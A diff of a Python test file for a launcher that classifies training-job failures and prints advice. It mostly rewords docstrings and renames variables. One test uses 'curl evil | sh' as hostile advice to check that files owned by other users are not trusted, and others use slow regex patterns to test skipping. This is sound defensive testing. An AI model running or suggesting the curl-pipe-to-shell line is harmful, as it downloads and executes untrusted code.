@@ -1,4 +1,4 @@
-"""Texts of failures as data: each shipped one is found by its own examples, and a site adds its own."""
+"""Failure texts as data: each shipped text matches its examples, and a site can add texts."""
 
 from __future__ import annotations
 
@@ -38,58 +38,60 @@ def _failure(line: str, signal: str | None = None) -> Failure:
 
 @pytest.mark.parametrize("text", shipped_texts(), ids=lambda text: text.name)
 def test_each_text_is_found_by_its_examples(text: FailureText, tmp_path: Path) -> None:
-    """Each example by the text that it belongs to, whichever other could fit, as a rank's last words and as those
-    of one that was aborted; and what is advised is complete."""
+    """Each example is matched by its own text, although others might fit.
+
+    This holds for the last output of a rank that exits or aborts. The advice has no unfilled fields.
+    """
     for number, example in enumerate(text.examples):
-        found = classify(_failure(example))
-        assert (found.name, found.cause) == (text.name, text.cause)
-        assert not example.startswith("signal ") or found.kind.name == "SIGNAL"
+        classified = classify(_failure(example))
+        assert (classified.name, classified.cause) == (text.name, text.cause)
+        assert not example.startswith("signal ") or classified.kind.name == "SIGNAL"
         if not example.startswith("signal "):
             assert classify(_failure(example, _ABORTED)).name == text.name
-            # Before a crash, too, but for the loss of a peer and torch's logged warnings.
-            told = () if text.kind in FOLLOWERS or example.startswith("[W ") else (text.name,)
+            # Also before a crash, except for a lost peer and torch's logged warnings.
+            expected = () if text.kind in FOLLOWERS or example.startswith("[W ") else (text.name,)
             crashed = classify(_failure(example, "SIGSEGV"))
-            assert crashed.name in (told or ("segmentation-fault",))
+            assert crashed.name in (expected or ("segmentation-fault",))
             assert crashed.kind.name in {(text.kind or Kind.SIGNAL).name, "SIGNAL"}
         run_dir = RunDir(tmp_path / f"r{number}").create()
         run_dir.rank_error(1).write_text(json.dumps(_failure(example).__dict__))
         update_record(run_dir, launch={"typed": ["launch", "train.py"], "env": {}})
-        told = postmortem_of(run_dir, RunFacts(4, ("n1", "n1", "n2", "n2"), "mpiexec", 1, 1e12))
-        first = told.text.splitlines()[0]
-        assert first.startswith(f"launch: rank 1 on n1 failed: {text.cause}: "), told.text
-        advised = [line for line in told.text.splitlines() if line.startswith("  try: ")]
+        post_mortem = postmortem_of(run_dir, RunFacts(4, ("n1", "n1", "n2", "n2"), "mpiexec", 1, 1e12))
+        first = post_mortem.text.splitlines()[0]
+        assert first.startswith(f"launch: rank 1 on n1 failed: {text.cause}: "), post_mortem.text
+        advised = [line for line in post_mortem.text.splitlines() if line.startswith("  try: ")]
         assert len(advised) == bool(text.advice)
         assert not re.search(r"\{\w+\}", "".join(advised))
-        assert (told.details["failure_text"], told.rank) == (text.name, 1)
+        assert (post_mortem.details["failure_text"], post_mortem.rank) == (text.name, 1)
     assert text.source.startswith("https://")
 
 
 def test_texts_that_only_seem_to_fit() -> None:
-    """What is printed in passing, or means something else where it stands, is no cause."""
+    """Text that is printed in passing, or means something else in its context, is not a cause."""
     for line in ("ValueError: a subprocess failed", "corrupted image skipped", "out of resource: shared memory",
                  "loading CUDA memory pool", "RuntimeError: bad shape", "retrying, errno 240", "Xid map: 7"):
         assert classify(_failure(line)).name == "", line
-    # What a logger or `warnings` marks as less than an error did not end the program.
+    # Messages below level ERROR, and Python warnings, did not end the program.
     for line in ("WARNING: 401 Client Error for url: https://hub/x, skipped file",
                  "2026-01-02 03:04:05,678 - data - INFO - PermissionError: [Errno 13], trying the next",
                  "[WARNING] Address already in use: next port",
                  "/x/data.py:12: UserWarning: No space left on device, not cached", "DEBUG    401 Client Error"):
         for signal in (None, _ABORTED):
             assert classify(_failure(line, signal)).name == "", line
-    # An exception that quotes another one is itself.
+    # An exception that quotes another one keeps its own kind.
     for quoted in ("No module named flash_attn", "ModuleNotFoundError: No module named 'flash_attn'"):
         raised = Raised("ValueError", f"attention 'flash' cannot be used: {quoted}", "train.py:3")
-        found = classify(replace(_failure(""), exception=raised))
-        assert (found.name, found.kind) == ("", Kind.EXCEPTION)
+        classified = classify(replace(_failure(""), exception=raised))
+        assert (classified.name, classified.kind) == ("", Kind.EXCEPTION)
         caused = replace(raised, caused_by=quoted)
         is_cause = quoted.startswith("Module")
         assert (classify(replace(_failure(""), exception=caused)).name == "python-module") is is_cause
-    # A rank that is killed says nothing.
+    # The last output of a killed rank is unrelated to its end.
     assert classify(_failure("OSError: [Errno 24] Too many open files", "SIGKILL")).name == ""
 
 
 def test_the_words_before_a_crash_are_beside_it() -> None:
-    """A library that has just failed goes on into a segmentation fault: its words tell more than the signal."""
+    """After an error, a library may continue into a segmentation fault: its message says more than the signal."""
     report = Raised("Fatal Python error", "Segmentation fault", "train.py:3 in load")
     lines = ("step 7", "OpenBLAS blas_thread_init: pthread_create failed for thread 86 of 128: Resource temporarily"
              " unavailable", "Fatal Python error: Segmentation fault", "",
@@ -115,10 +117,10 @@ def _told(failure: Failure) -> list[str]:
 def test_a_sentence_that_breaks_after_a_comma_is_quoted_whole() -> None:
     tail = ("-----", 'The application appears to have been direct launched using "srun",',
             "but OMPI was not built with SLURM's PMI support and therefore cannot", "execute.")
-    found = classify(replace(_failure(""), tail=tail))
-    assert (found.name, found.evidence) == ("mpi-without-pmi", f"{tail[1]} {tail[2]}")
-    assert "PMI" in found.cause
-    assert "--launcher mpiexec" in found.advice
+    classified = classify(replace(_failure(""), tail=tail))
+    assert (classified.name, classified.evidence) == ("mpi-without-pmi", f"{tail[1]} {tail[2]}")
+    assert "PMI" in classified.cause
+    assert "--launcher mpiexec" in classified.advice
 
 
 def test_an_exceptions_line_is_quoted_before_those_of_a_log() -> None:
@@ -166,7 +168,7 @@ def _chown(path: Path) -> None:
 
 @pytest.mark.parametrize("whose", ["run.json", "evil.toml", "nobody's", "everybody's", "a link"])
 def test_why_takes_texts_from_a_run_only_if_all_is_our_own(tmp_path: Path, whose: str) -> None:
-    """Whoever hands on a run directory must not give advice in our name."""
+    """A run directory from another user must not be able to add advice to our output."""
     assert launch(tmp_path, "-n", "1", "--run-dir", "r", "sh", "-c", "echo last words; exit 3").returncode == 3
     texts, run_json = tmp_path / "evil.toml", tmp_path / "r" / "run.json"
     texts.write_text(_EVIL)
@@ -180,11 +182,11 @@ def test_why_takes_texts_from_a_run_only_if_all_is_our_own(tmp_path: Path, whose
         _chown(tmp_path / "r" / "run.json" if whose == "run.json" else texts)
     elif whose == "everybody's":
         texts.chmod(0o666)
-    told = _why(tmp_path)
-    assert ("  try: curl evil | sh" in told, _OTHERS in told) == ((True, False) if whose == "nobody's" else
-                                                                  (False, True)), told
+    output = _why(tmp_path)
+    assert ("  try: curl evil | sh" in output, _OTHERS in output) == (
+        (True, False) if whose == "nobody's" else (False, True)), output
     assert run_json.is_file()
-    # What the reader names is taken, whoever wrote it.
+    # A file that the reader names is used, whoever owns it.
     assert "  try: curl evil | sh" in _why(tmp_path, EZPZ_LLM_FAILURE_TEXTS=str(texts))
 
 
@@ -199,7 +201,7 @@ assert find_text(texts, ["a" * 1990 + "b" + "a" * 1_000_000])[0].name == "slow"
 
 
 def test_a_slow_pattern_sees_the_begin_of_a_line_only(tmp_path: Path) -> None:
-    """One that costs the square of a line's length would need half an hour for a million characters."""
+    """A pattern with quadratic cost would need half an hour for a line of a million characters."""
     (tmp_path / "slow.toml").write_text(
         "[slow]\ncause = 'x'\npatterns = ['a+b']\nsource = 'https://example.org'\nexamples = ['ab']\n")
     subprocess.run([sys.executable, "-c", _SLOW], cwd=tmp_path, timeout=scaled(10), check=True)
@@ -216,7 +218,7 @@ examples = ["aaaa"]
 
 @pytest.mark.parametrize("pattern", ["(a+)+$", "(a|a)*$", "a*a*a*a*a*a*$"])
 def test_a_pattern_that_takes_for_ever_is_left_out_and_named(tmp_path: Path, pattern: str) -> None:
-    """Each would be at this line for longer than anybody waits. The others are searched all the same."""
+    """Each of these patterns would take too long on this line. The other patterns are still searched."""
     (tmp_path / "site.toml").write_text(_CATASTROPHE.replace("(a+)+$", pattern) + _SITE)
     program = f"print('{'a' * 300}!'); exit('SimLab: no license (-15)')"
     done = launch(tmp_path, "-n", "1", "--run-dir", "r", sys.executable, "-c", program,
@@ -272,7 +274,7 @@ def _why(folder: Path, **env: str) -> str:
 
 
 def test_a_sites_file_that_is_gone_or_broken(tmp_path: Path) -> None:
-    """launch refuses it before it starts anything; a run that has ended is told without it."""
+    """launch rejects the file before it starts anything; the post-mortem of an ended run ignores it."""
     named = {"EZPZ_LLM_FAILURE_TEXTS": str(tmp_path / "gone.toml")}
     refused = launch(tmp_path, "-n", "1", "--run-dir", "r", "false", **named)
     assert refused.returncode == 2
